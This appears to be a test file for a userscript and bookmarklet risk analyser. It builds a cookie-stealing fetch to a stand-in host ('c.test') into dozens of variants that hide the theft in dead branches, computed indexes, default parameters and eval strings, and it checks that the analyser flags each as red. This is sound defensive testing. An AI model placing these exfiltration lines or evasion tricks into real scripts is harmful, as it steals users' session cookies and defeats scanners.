@@ -1,0 +1,106 @@
+import { describe, expect, test } from "vitest";
+import { analyzeScript } from "../analyze-script.ts";
+import { userscript } from "../testing/find-in.ts";
+
+const THEFT = `fetch("https://c.test/?c=" + document.cookie)`;
+
+/** Branches that the exact run drops, as it believes to know the condition. */
+const DROPPED = [
+	["if", `if (1 > 2) ${THEFT};`],
+	["else", `if (1 < 2) a(); else ${THEFT};`],
+	["a conditional expression", `1 > 2 ? ${THEFT} : 0;`],
+	["&&", `0 && ${THEFT};`],
+	["||", `1 || ${THEFT};`],
+	["??", `1 ?? ${THEFT};`],
+	["||=", `let a = 1; a ||= ${THEFT};`],
+	["??=", `let a = 1; a ??= ${THEFT};`],
+	["while", `while (1 > 2) { ${THEFT} }`],
+	["for", `for (let at = 0; at < 0; at++) ${THEFT};`],
+	["for-of over an empty list", `for (const one of []) ${THEFT};`],
+	["switch", `switch (1) { case 2: ${THEFT} }`],
+	["what follows a return", `(function () { if (2 > 1) return; ${THEFT} })();`],
+	["what follows a break", `for (;;) { if (2 > 1) break; ${THEFT} }`],
+	["what follows a labeled break", `out: { if (2 > 1) break out; ${THEFT} }`],
+	["what follows a continue", `for (const one of [1]) { if (2 > 1) continue; ${THEFT} }`],
+	["what follows a throw", `try { if (2 > 1) throw 1; ${THEFT} } catch {}`],
+	["what follows the end of a generator", `function* g() { if (1) return; ${THEFT} } for (const one of g()) a(one);`],
+	["a default parameter", `(function (a = ${THEFT}) {})(1);`],
+	["a default of destructuring", `const { a = ${THEFT} } = { a: 1 };`],
+	["a function that only a dropped branch defines", `const act = 1 > 2 ? () => ${THEFT} : () => 0; act();`],
+	["a function that is called with another value", `function act(n) { if (n === 3) ${THEFT} } act(1);`],
+	["a callback of an empty list", `[].map(() => ${THEFT});`],
+	["a callback that stops before", `[1, 2].some((n) => { if (n < 5) return true; ${THEFT} });`],
+	["code as text", `if (1 > 2) eval(${JSON.stringify(THEFT)});`],
+] as const;
+
+/** Programs whose value decides where data goes or what is read. */
+const CHOSEN = [
+	[
+		"an address assigned in a dropped branch",
+		`let to = "/x"; if (1 > 2) to = "https://c.test/?c="; fetch(to + document.cookie);`,
+	],
+	["an address by a condition", `const to = 1 > 2 ? "https://c.test/?c=" : "/x"; fetch(to + document.cookie);`],
+	["an address by a computed index", `fetch(["/x", "https://c.test/?c="][+(1 > 2)] + document.cookie);`],
+	["an address by a counted index", `let n = 0; n++; n--; fetch(["/x", "https://c.test/?c="][n] + document.cookie);`],
+	[
+		"an address by a computed name",
+		`fetch({ a: "/x", b: "https://c.test/?c=" }[String.fromCharCode(97 + 0)] + document.cookie);`,
+	],
+	[
+		"an address out of a filter",
+		`["https://c.test/?c="].filter(() => 1 > 2).forEach((to) => fetch(to + document.cookie));`,
+	],
+	[
+		"a frozen address",
+		`const o = Object.freeze({ to: "https://c.test/?c=" }); o.to = "/x"; fetch(o.to + document.cookie);`,
+	],
+	[
+		"an address overwritten after it was used",
+		`let to = "/x"; Promise.resolve().then(() => fetch(to + document.cookie)); to = "https://c.test/?c=";`,
+	],
+	[
+		"an address that was removed from a list",
+		`const l = ["https://c.test/?c=", "/x"]; l.reverse(); fetch(l[1] + document.cookie);`,
+	],
+	["a function by a condition", `(1 > 2 ? fetch : console.log)("https://c.test/?c=" + document.cookie);`],
+	["a function by a computed index", `[console.log, fetch][+(1 > 2)]("https://c.test/?c=" + document.cookie);`],
+	["a property by a condition", `fetch("https://c.test/?c=" + document[1 > 2 ? "cookie" : "title"]);`],
+] as const;
+
+describe("a theft that the exact run takes to be impossible", () => {
+	test.each([...DROPPED, ...CHOSEN])("is red in a userscript and in a bookmarklet: %s", (_title, code) => {
+		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
+		const installed = userscript(["match https://shop.example/*", "grant none"], code);
+		expect(analyzeScript({ code: installed }).risk_level).not.toBe("green");
+	});
+
+	test("names the receiver and what is read", () => {
+		const [finding] = analyzeScript({ code: `if (1 > 2) ${THEFT};` }).vulnerabilities;
+		expect(finding).toMatchObject({ type: "cookie-exfiltration", severity: "critical", line: 1 });
+		expect(finding?.description).toContain("c.test");
+	});
+
+	test("lists the receiver among the hosts", () => {
+		const { hosts, offline } = analyzeScript({ code: `if (1 > 2) ${THEFT};` }).capabilities;
+		expect(hosts.map(({ host }) => host)).toEqual(["c.test"]);
+		expect(offline).toBe(false);
+	});
+});
+
+/** What the skeptical run doubts, and the exact run knows to be harmless. */
+const HARMLESS = [
+	["a table by a computed key", `const words = { 1: "one", 2: "two" }; document.title = words[1 + 1];`],
+	["an address of one's own, joined", `fetch(["https://c.test", "list"].join("/")).then((r) => r.json()).then(show);`],
+	["a switch of debugging", `const DEBUG = false; if (DEBUG) console.log(document.cookie);`],
+	["a loop over one's own addresses", `for (const name of ["a", "b"]) fetch("/api/" + name);`],
+	[
+		"a worker of one's own text",
+		`function work() { postMessage(1); } new Worker(URL.createObjectURL(new Blob(["(" + work + ")()"])));`,
+	],
+] as const;
+
+describe("what only the skeptical run does not believe", () => {
+	test.each(HARMLESS)("stays green: %s", (_title, code) => {
+		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green" });
+	});
+});
